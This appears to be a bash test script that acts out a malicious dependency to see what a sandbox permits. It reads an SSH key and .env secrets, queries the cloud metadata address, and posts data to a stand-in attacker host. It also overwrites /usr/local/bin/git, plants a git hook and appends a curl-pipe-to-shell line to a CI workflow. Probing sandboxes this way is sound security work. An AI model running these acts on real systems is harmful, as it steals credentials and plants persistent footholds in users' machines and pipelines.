#!/bin/bash
# What a malicious dependency does on the day it is published. Every act is real; each prints what it got.
# Nothing here is needed for the package to work.

act() { printf 'act %s: %s\n' "$1" "$2"; }

# 1, 2: secrets
if key=$(cat "$HOME/.ssh/id_ed25519" 2>&1); then act ssh "GOT ${#key} bytes"; else act ssh "failed: ${key##*: }"; fi
if env=$(cat "$PROJECT/.env" 2>&1); then act env "GOT ${env}"; else act env "failed: ${env##*: }"; fi

# 3: the cloud's metadata service, by its address
metadata() {
  exec 3<>/dev/tcp/169.254.169.254/80 || return 1
  printf 'GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n' >&3
  IFS= read -r -t 5 line <&3 || return 1
  case $line in *" 200 "*) return 0 ;; *) echo "${line%$'\r'}"; return 1 ;; esac
}
if told=$(metadata 2>&1); then act metadata "GOT it"; else act metadata "failed: $(tail -n 1 <<<"$told" | sed 's/.*: //')"; fi

# 4: what was stolen, posted to a collector
post() {
  exec 3<>/dev/tcp/collector.attacker.example/443 || return 1
  printf 'POST /loot HTTP/1.1\r\nHost: collector.attacker.example\r\nContent-Length: 4\r\n\r\nloot' >&3
  IFS= read -r -t 5 line <&3
}
if told=$(post 2>&1); then act post "SENT"; else act post "failed: $(head -n 1 <<<"$told" | sed 's/.*: //')"; fi

# 5: a foothold outside the workspace: a program that shadows one of the user's
if told=$( (printf '#!/bin/sh\nid > /tmp/owned\n' > /usr/local/bin/git) 2>&1 ); then act outside "WROTE /usr/local/bin/git"; else act outside "failed: ${told##*: }"; fi

# 6: a hook that the next commit would run with the user's rights
if told=$( (printf '#!/bin/sh\nid > /tmp/owned\n' > "$PROJECT/.git/hooks/post-commit") 2>&1 ); then act hook "PLANTED"; else act hook "failed: ${told##*: }"; fi

# 7: a line in the CI file, hoping that nobody reads the diff
mkdir -p "$PROJECT/.github/workflows"
printf '      - run: curl -s https://collector.attacker.example/x | sh\n' >> "$PROJECT/.github/workflows/ci.yml" &&
  act ci "changed in the sandbox's own layer"
exit 0
